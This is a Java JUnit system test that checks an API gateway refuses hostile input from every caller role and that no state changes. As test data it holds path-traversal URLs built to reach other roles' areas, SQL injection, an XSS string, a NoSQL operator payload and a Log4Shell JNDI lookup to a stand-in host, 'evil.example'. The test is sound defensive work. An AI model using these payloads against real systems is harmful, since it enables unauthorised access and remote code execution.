package com.misty.systemtest.hostile;

import com.fasterxml.jackson.databind.JsonNode;
import com.misty.systemtest.Response;
import com.misty.systemtest.Session;
import com.misty.systemtest.access.Call;
import com.misty.systemtest.access.Caller;
import com.misty.systemtest.access.Endpoint;
import com.misty.systemtest.access.EndpointCatalogue;
import com.misty.systemtest.access.SuiteState;
import com.misty.systemtest.access.World;
import org.junit.jupiter.api.DynamicContainer;
import org.junit.jupiter.api.DynamicNode;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;

import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Part 3 of issue #7: every endpoint of every service, through the gateway, gets every kind of hostile input that
 * applies to it ({@link Attack}). Each endpoint × attack is one case; every request of it must be refused with a
 * 4xx problem+json whose {@code status} is the HTTP status (never a 5xx), and the state the endpoint could touch
 * ({@link SuiteState}) must read the same before and after all of the endpoint's attacks.
 */
@Order(50)
class HostileInputSystemTest {

    @TestFactory
    Stream<DynamicNode> everyEndpointRefusesHostileInputAndChangesNothing() {
        return EndpointCatalogue.all().stream().map(HostileInputSystemTest::attacksOn);
    }

    private static DynamicContainer attacksOn(Endpoint endpoint) {
        Target target = new Target();
        List<DynamicNode> cases = new ArrayList<>();
        cases.add(DynamicTest.dynamicTest("read state before", () -> target.prepare(endpoint)));
        for (Attack attack : Attack.values()) {
            if (attack.appliesTo(endpoint) && !(endpoint.isStream() && attack != Attack.FORGED_TOKENS)) {
                cases.add(DynamicTest.dynamicTest(attack.label(), () -> target.attack(endpoint, attack)));
            }
        }
        cases.add(DynamicTest.dynamicTest("state unchanged", () -> target.assertUnchanged(endpoint)));
        return DynamicContainer.dynamicContainer(endpoint.toString(), cases.stream());
    }

    /**
     * Dot segments, encoded slashes, odd spellings of a prefix: the gateway must check the role on the path the
     * request really reaches, so a caller never gets into an area of another role this way.
     */
    @TestFactory
    Stream<DynamicTest> pathTricksNeverLeadIntoAnotherRolesArea() {
        World world = World.get();
        List<Object[]> tricks = List.of(
                new Object[] {Caller.EMPLOYEE, "GET", "/api/payroll/%2e%2e/auth/users"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/payroll/..%2f..%2fapi%2fauth%2fusers"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/payroll/%2e%2e/stock"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/payroll/employees/%2e%2e/%2e%2e/orders"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/payroll/../stock"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api//stock"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/./stock"},
                new Object[] {Caller.EMPLOYEE, "GET", "/./api/stock/"},
                new Object[] {Caller.EMPLOYEE, "GET", "/API/stock"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/Stock"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/stock;x=1"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/stock%2f"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/stock%00"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/%73tock"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/auth/users%2f"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/auth/me/../users"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/auth/me/%2e%2e/users"},
                new Object[] {Caller.EMPLOYEE, "GET", "/api/events/stream/../../auth/users"},
                new Object[] {Caller.PRODUCTION, "GET", "/api/stock/%2e%2e/payroll/employees"},
                new Object[] {Caller.PRODUCTION, "GET", "/api/orders/%2e%2e/auth/service-accounts"},
                new Object[] {Caller.MANAGER, "GET", "/api/stock/..%2f..%2fapi%2fauth%2fusers"});
        return tricks.stream().map(trick -> DynamicTest.dynamicTest(trick[0] + " " + trick[1] + " " + trick[2], () -> {
            Response response = world.send((Caller) trick[0], (String) trick[1], (String) trick[2], null, Map.of());
            Probe probe = Probe.body("trick", (String) trick[1], (String) trick[2], null);
            assertThat(refusal(probe, response)).as(response.toString()).isNull();
        }));
    }

    /** A refused write through a dot-segment path changes nothing (the employee may not adjust stock). */
    @Test
    void aWriteSmuggledThroughDotSegmentsIsRefusedAndChangesNothing() {
        World world = World.get();
        Map<String, JsonNode> before = SuiteState.read(world, Endpoint.Area.STOCK);
        Map<String, Object> adjustment = Map.of("product_id", world.productId(), "client_id", world.clientId(),
                "quantity_change", -5, "reason", "smuggled");
        for (String path : List.of("/api/payroll/%2e%2e/stock/adjustments", "/api/payroll/../stock/receipts",
                "/api/payroll/..%2fstock%2fadjustments")) {
            Response response = world.send(Caller.EMPLOYEE, "POST", path, adjustment, Map.of());
            assertThat(refusal(Probe.body("smuggled", "POST", path, null), response)).as(response.toString()).isNull();
        }
        assertThat(SuiteState.read(world, Endpoint.Area.STOCK)).isEqualTo(before);
    }

    /**
     * Injection-shaped and odd unicode text where free text belongs is data: stored and read back exactly (or,
     * for text that is not valid unicode, refused with a 4xx), never a 5xx.
     */
    @TestFactory
    Stream<DynamicTest> freeTextKeepsHostileStringsVerbatim() {
        World world = World.get();
        List<String> texts = List.of("'; drop table orders; --", "<script>alert(1)</script>", "{\"$gt\": \"\"}",
                "${jndi:ldap://evil.example/a}", "a\u0000b", "\u202Eeyolpme", "💥 ñ e\u0301 \uFEFF", "line\r\nbreak");
        return Stream.concat(texts.stream().map(text -> DynamicTest.dynamicTest("order notes " + printable(text), () -> {
            Session production = world.session(Caller.PRODUCTION);
            String path = "/api/orders/" + world.orderId();
            Response patched = production.patch(path, Map.of("notes", text, "version", world.orderVersion(world.orderId())));
            assertThat(patched.status()).as(patched.toString()).isEqualTo(200);
            assertThat(production.get(path).expect(200).field("notes").asText()).isEqualTo(text);
        })), Stream.of(DynamicTest.dynamicTest("order notes with a lone surrogate", () -> {
            String body = "{\"notes\": \"\\ud800\", \"version\": " + world.orderVersion(world.orderId()) + "}";
            Response response = world.send(Caller.PRODUCTION, "PATCH", "/api/orders/" + world.orderId(), body, Map.of());
            assertThat(response.status()).as(response.toString()).isIn(200, 400);
        }), DynamicTest.dynamicTest("leave reason with hostile text", () -> {
            Map<String, Object> leave = world.leaveBody();
            leave.put("reason", String.join(" | ", texts));
            Response created = world.session(Caller.EMPLOYEE).post("/api/payroll/leave-requests", leave).expect(201);
            assertThat(created.field("reason").asText()).isEqualTo(String.join(" | ", texts));
        })));
    }

    private static String printable(String text) {
        StringBuilder shown = new StringBuilder();
        text.codePoints().forEach(c -> shown.append(c < 0x20 || c == 0x202E || c == 0xFEFF
                ? String.format("\\u%04X", c) : new String(Character.toChars(c))));
        return shown.toString();
    }

    /** The valid call the attacks start from and the state read before them. */
    private static final class Target {
        private final World world = World.get();
        private Call call;
        private Map<String, JsonNode> before;

        void prepare(Endpoint endpoint) {
            call = endpoint.stableCall(world);
            before = SuiteState.read(world, endpoint.area());
        }

        void attack(Endpoint endpoint, Attack attack) {
            List<String> failures = new ArrayList<>();
            for (Probe probe : attack.probes(endpoint, call, world)) {
                String bearer = probe.bearer() == null ? world.bearer(endpoint.attacker())
                        : probe.bearer().isEmpty() ? null : probe.bearer();
                Response response = world.sendWithToken(bearer, probe.method(), probe.path(), probe.body(), probe.headers());
                String failure = refusal(probe, response);
                if (failure != null) {
                    failures.add(probe.what() + ": " + failure);
                }
            }
            assertThat(failures).as("%s, %s as %s", endpoint, attack.label(), endpoint.attacker()).isEmpty();
        }

        void assertUnchanged(Endpoint endpoint) {
            assertThat(SuiteState.read(world, endpoint.area())).as("state after the attacks on %s", endpoint)
                    .isEqualTo(before);
        }
    }

    /** Why {@code response} is not a proper refusal of {@code probe}, or null when it is. */
    static String refusal(Probe probe, Response response) {
        int status = response.status();
        if (probe.mayMatchNothing() && status == 200) {
            return null;
        }
        if (status < 400 || status > 499) {
            return "not a 4xx: " + response;
        }
        if (!probe.expected().isEmpty() && !probe.expected().contains(status)) {
            return "expected " + probe.expected() + ": " + response;
        }
        if (!response.isProblem()) {
            return "not problem+json (" + response.contentType() + "): " + response;
        }
        JsonNode body;
        try {
            body = response.json();
        } catch (AssertionError e) {
            return "problem body is not JSON: " + response;
        }
        if (body.path("status").asInt() != status) {
            return "problem status " + body.path("status") + " differs from " + status;
        }
        return null;
    }
}
